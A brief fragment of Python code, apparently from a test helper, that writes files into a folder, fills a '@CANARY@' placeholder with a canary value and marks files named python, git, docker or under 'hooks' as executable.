        place.write_bytes(content.replace(b"@CANARY@", os.fsencode(canary)))
        if path in {"python", "git", "docker"} or "hooks" in path:
            place.chmod(0o755)
    return folder
